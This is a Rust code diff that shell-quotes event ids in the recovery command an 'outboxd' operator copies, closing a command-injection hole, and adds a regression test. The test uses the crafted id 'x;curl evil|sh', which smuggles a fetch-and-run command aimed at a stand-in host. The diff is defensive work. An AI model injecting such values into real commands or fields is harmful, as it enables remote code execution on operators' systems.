@@ -131,9 +131,9 @@ pub fn parked_fix(class: &str, state: &str, event_id: &str) -> String {
         "policy_violation" | "invalid_record" | "invalid_argument" => "fix what the broker refuses in the record",
         _ => "read the reason (`outboxd parked show`) and fix its cause",
     };
-    format!(
-        "{what}, then `outboxd parked retry {event_id}` (or `outboxd parked discard {event_id}`)"
-    )
+    // The id comes from a row anyone who can write the outbox chose: one quoted argument.
+    let id = crate::model::shell::quote(event_id);
+    format!("{what}, then `outboxd parked retry {id}` (or `outboxd parked discard {id}`)")
 }
 
 /// Seconds since `first_seen` (`YYYY-MM-DDTHH:MM:SS±HH[:MM]`, as `outboxd parked list` reads it).
@@ -218,6 +218,13 @@ mod tests {
         assert!(a > 1e8, "{a}");
         assert_eq!(age_of("yesterday"), None);
         assert!(parked_fix("too_large", "parked", "e1").contains("parked retry e1"));
+        // Issue 53: a crafted id is one quoted argument of the command an operator copies.
+        let fix = parked_fix("too_large", "parked", "x;curl evil|sh");
+        assert!(
+            fix.contains("`outboxd parked retry 'x;curl evil|sh'`")
+                && fix.contains("`outboxd parked discard 'x;curl evil|sh'`"),
+            "{fix}"
+        );
         assert!(parked_fix("too_large", "blocked", "e1").contains("held behind"));
     }
 }
